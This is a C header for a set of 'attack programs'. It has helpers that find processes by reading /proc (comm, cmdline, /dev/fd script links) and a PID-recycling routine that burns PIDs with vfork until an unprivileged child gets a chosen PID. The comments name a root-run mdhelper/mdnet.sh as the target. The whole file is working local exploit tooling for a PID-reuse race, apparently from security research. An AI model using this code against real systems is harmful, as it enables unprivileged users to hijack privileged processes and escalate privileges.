/* runs.h: what the attack programs share: is a process running program
 * NAME (runs), reading /proc, and taking a given pid (recycle_pid).
 *
 * runs() looks at its comm, or the base name of its argv[0] or of the script
 * its interpreter reads (argv[1]): mdhelper execs root's mdnet.sh through an fd it checked,
 * so the shell's comm is its own, argv[1] is /dev/fd/N, and fd N is the
 * script. */
#ifndef ATTACK_RUNS_H
#define ATTACK_RUNS_H

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static inline int same_base(const char *path, const char *name)
{
	const char *slash = strrchr(path, '/');

	return strcmp(slash ? slash + 1 : path, name) == 0;
}

/* Reads /proc/PID/NAME into buf, NUL ended; returns its length (-1:
 * gone). */
static inline int proc_read(pid_t pid, const char *name, char *buf, size_t size)
{
	char path[96];
	ssize_t n;
	int fd;

	snprintf(path, sizeof path, "/proc/%d/%s", (int)pid, name);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	n = read(fd, buf, size - 1);
	close(fd);
	if (n < 0)
		return -1;
	buf[n] = '\0';
	return (int)n;
}

/* The kernel's last pid, from an open /proc/sys/kernel/ns_last_pid. */
static inline int last_pid(int fd)
{
	char buf[16];
	ssize_t n = pread(fd, buf, sizeof buf - 1, 0);

	if (n <= 0)
		return -1;
	buf[n] = '\0';
	return atoi(buf);
}

/* One pid used up: vfork (no page tables copied) and reap at once. */
static inline pid_t burn_pid(void)
{
	pid_t pid = vfork();

	if (pid == 0)
		_exit(0);
	if (pid > 0)
		waitpid(pid, NULL, 0);
	return pid;
}

/* Has the kernel give pid TARGET to a child of ours: uses pids up until
 * the last one handed out is TARGET - 1, then calls take(TARGET, arg),
 * which forks (the child sees whether getpid() is TARGET) and returns the
 * child's pid, having reaped it if it is not TARGET. Another process may
 * take TARGET first; then it tries again, until END. An unprivileged
 * user can do this to any free pid: pid_max is 32768 here, and a lap of
 * the pid space takes about a second. 1 once the child is TARGET, 0 if
 * END came first. lastfd: /proc/sys/kernel/ns_last_pid, open. */
static inline int recycle_pid(int lastfd, pid_t target, time_t end,
			      pid_t (*take)(pid_t target, void *arg), void *arg)
{
	while (time(NULL) < end)
		for (int i = 0; i < 1000; i++) {
			if (last_pid(lastfd) != target - 1)
				burn_pid();
			else if (take(target, arg) == target)
				return 1;
		}
	return 0;
}

static inline int cmdline_of(pid_t pid, char *buf, size_t size)
{
	return proc_read(pid, "cmdline", buf, size);
}

static inline int runs(pid_t pid, const char *name)
{
	char buf[4096], path[64], target[512];
	const char *arg1;
	int n = cmdline_of(pid, buf, sizeof buf), fd;
	ssize_t len;

	snprintf(path, sizeof path, "/proc/%d/comm", (int)pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		len = read(fd, target, sizeof target - 1);
		close(fd);
		if (len > 0) {
			target[len] = '\0';
			target[strcspn(target, "\n")] = '\0';
			if (!strcmp(target, name))
				return 1;
		}
	}
	if (n <= 0)
		return 0;
	if (same_base(buf, name))
		return 1;
	arg1 = buf + strlen(buf) + 1;
	if (arg1 >= buf + n)
		return 0;
	if (same_base(arg1, name))
		return 1;
	if (strncmp(arg1, "/dev/fd/", 8) != 0)
		return 0;
	snprintf(path, sizeof path, "/proc/%d/fd/%s", (int)pid, arg1 + 8);
	len = readlink(path, target, sizeof target - 1);
	if (len <= 0)
		return 0;
	target[len] = '\0';
	return same_base(target, name);
}

#endif
